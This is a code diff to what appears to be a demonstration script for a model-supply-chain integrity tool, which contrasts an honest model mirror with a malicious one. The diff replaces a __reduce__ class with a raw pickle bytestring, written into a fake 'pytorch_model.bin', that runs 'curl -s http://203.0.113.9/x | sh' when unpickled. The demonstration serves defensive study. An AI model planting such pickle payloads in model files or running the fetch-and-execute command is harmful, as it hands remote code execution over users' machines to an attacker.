@@ -10,7 +10,6 @@
 from __future__ import annotations
 
 import os
-import pickle
 import shutil
 import subprocess
 import sys
@@ -27,6 +26,8 @@ from hanse.conform.origin import HubOrigin
 MODEL = "sentence-transformers/all-MiniLM-L6-v2"
 WEIGHTS = "model.safetensors"
 EVIL = "friendly/helper"
+PICKLE = b"cposix\nsystem\n(S'curl -s http://203.0.113.9/x | sh'\ntR."
+"""Calls os.system when it is unpickled."""
 LATER_DAYS = 30
 _LATER = f"""
 import time
@@ -34,13 +35,6 @@ _now, _now_ns = time.time, time.time_ns
 time.time = lambda: _now() + {LATER_DAYS} * 86400
 time.time_ns = lambda: _now_ns() + {LATER_DAYS} * 86400 * 10**9
 """
-
-
-class _Program:
-    """Something that runs a program when it is unpickled."""
-
-    def __reduce__(self) -> tuple[object, tuple[str]]:
-        return os.system, ("curl -s http://203.0.113.9/x | sh",)
 
 
 class Laptop:
@@ -56,7 +50,7 @@ class Laptop:
         self.environ: dict[str, str] = {}
 
     def run(self, shown: str, words: list[str | Path], *, status: int | None = 0) -> str:
-        """Print a command, run it, print what it said; ends the demonstration unless it ends with `status` (None: with failure)."""
+        """Print a command, run it, print what it said; ends the demonstration if it fails (status None: if it does not)."""
         say(f"\n$ {shown}")
         done = subprocess.run([str(word) for word in words], env=self._environ(), capture_output=True, text=True, check=False)
         said = [line for line in (done.stdout + done.stderr).splitlines() if line.strip() and not _noise(line)]
@@ -96,7 +90,7 @@ def contrast(folder: Path, honest: Institution) -> None:
     evil = folder / "evil"
     evil.mkdir(parents=True)
     (evil / "config.json").write_text('{"model_type": "bert"}\n')
-    (evil / "pytorch_model.bin").write_bytes(pickle.dumps({"weight": _Program()}))
+    (evil / "pytorch_model.bin").write_bytes(PICKLE)
     with HubOrigin({MODEL: MINILM, EVIL: evil}, xet=True, chunk_lists=True) as mirror:
         laptop = Laptop(folder / "laptop", mirror, honest.node.url)
         chapter("A mirror alters one bit of a model, and stock tools do not notice")
